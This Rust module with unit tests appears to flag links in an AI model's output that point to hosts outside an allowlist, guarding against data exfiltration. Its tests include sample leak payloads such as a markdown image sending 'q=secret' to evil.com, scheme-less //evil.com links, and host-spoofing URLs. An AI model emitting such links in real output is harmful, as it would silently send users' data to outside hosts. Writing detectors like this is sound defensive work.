//! Links in what a model says: one to a host that is not on the list would carry away what it has in its address, in many
//! clients without a click.

use linkify::{LinkFinder, LinkKind};
use std::ops::Range;
use url::Url;

/// Links in a word that lead to a host that is none of `hosts` and below none of them.
pub(super) fn strange(word: &str, hosts: &[String]) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let mut finder = LinkFinder::new();
    finder.kinds(&[LinkKind::Url]);
    for link in finder.links(word) {
        if !is_known(link.as_str(), hosts) {
            found.push(link.start()..link.end());
        }
    }
    // What the finder does not take for a link may be one for somebody else, such as an address in brackets.
    for (at, _) in word.match_indices("://") {
        if finder.links(word).all(|link| !(link.start()..link.end()).contains(&at)) {
            found.push(address(word, word[..at].trim_end_matches(|c: char| c.is_ascii_alphanumeric()).len()));
        }
    }
    found.extend(without_scheme(word).filter(|range| !is_known(&format!("https:{}", &word[range.clone()]), hosts)));
    found.sort_by_key(|range| range.start);
    found
}

/// `//host/…`, as it can stand in Markdown and HTML.
fn without_scheme(word: &str) -> impl Iterator<Item = Range<usize>> {
    word.match_indices("//").filter_map(|(at, _)| {
        let opens = word[..at].chars().next_back().is_none_or(|c| matches!(c, '(' | '"' | '\'' | '<' | '='));
        let names = word[at + 2..].chars().next().is_some_and(char::is_alphanumeric);
        let link = address(word, at);
        (opens && names && word[link.clone()].contains('.')).then_some(link)
    })
}

/// From here to where an address ends in Markdown and HTML.
fn address(word: &str, from: usize) -> Range<usize> {
    let end = word[from..].find([')', '"', '\'', '>']).map_or(word.len(), |end| from + end);
    from..end
}

fn is_known(link: &str, hosts: &[String]) -> bool {
    let Ok(url) = Url::parse(link) else { return false };
    if !matches!(url.scheme(), "http" | "https") {
        return false;
    }
    let Some(host) = url.host_str() else { return false };
    let host = host.trim_end_matches('.');
    hosts.iter().any(|known| {
        host.eq_ignore_ascii_case(known)
            || host
                .to_ascii_lowercase()
                .strip_suffix(&known.to_ascii_lowercase())
                .is_some_and(|rest| rest.ends_with('.'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_listed_hosts_and_those_below_them_are_known() {
        let hosts = ["example.com".to_owned(), "docs.rs".to_owned()];
        let strange =
            |word: &str| strange(word, &hosts).into_iter().map(|range| word[range].to_owned()).collect::<Vec<_>>();
        for known in
            ["https://example.com/a?b", "(http://A.EXAMPLE.com.)", "https://docs.rs", "plain.word", "a//b", "//comment"]
        {
            assert_eq!(strange(known), [""; 0], "{known}");
        }
        for (word, link) in [
            ("https://evil.com", "https://evil.com"),
            ("https://notexample.com/x", "https://notexample.com/x"),
            ("https://example.com@evil.com/", "https://example.com@evil.com/"),
            ("https://example.com.evil.com/", "https://example.com.evil.com/"),
            ("![](https://evil.com/?q=secret)", "https://evil.com/?q=secret"),
            ("![](//evil.com/x)", "//evil.com/x"),
            ("<img src=\"//evil.com/x\">", "//evil.com/x"),
            ("ftp://example.com/x", "ftp://example.com/x"),
            ("https://[::1]/", "https://[::1]/"),
        ] {
            assert_eq!(strange(word), [link], "{word}");
        }
    }
}
